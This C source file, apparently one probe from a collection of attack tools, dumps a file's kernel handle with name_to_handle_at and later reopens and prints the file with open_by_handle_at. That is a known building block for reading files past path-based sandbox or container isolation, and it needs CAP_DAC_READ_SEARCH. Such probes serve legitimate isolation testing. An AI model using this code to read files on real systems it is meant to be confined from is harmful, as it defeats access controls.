/* name_to_handle_at / open_by_handle_at (CAP_DAC_READ_SEARCH, i.e. root):
 * handle dump PATH FILE | handle open FILE */
#include "attack.h"

int main(int argc, char **argv) {
    need(argc, 3, "handle dump PATH FILE | handle open FILE");
    if (strcmp(argv[1], "dump") == 0) {
        need(argc, 4, "handle dump PATH FILE");
        struct file_handle *h = malloc(sizeof *h + 128);
        h->handle_bytes = 128;
        int mnt;
        if (name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0) { fail("name_to_handle_at"); return 1; }
        int out = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (out < 0) { fail("open-handle-file"); return 1; }
        put(out, h, sizeof *h + h->handle_bytes, "write-handle");
        close(out);
        printf("handle of %u bytes\n", h->handle_bytes);
        return 0;
    }
    char raw[512];
    int in = open(argv[2], O_RDONLY);
    ssize_t n = read(in, raw, sizeof raw);
    close(in);
    if (n <= 0) { fail("read-handle"); return 1; }
    int mountfd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mountfd, (struct file_handle *)raw, O_RDONLY);
    if (fd < 0) { fail("open_by_handle_at"); return 1; }
    dump(fd);
    return 0;
}
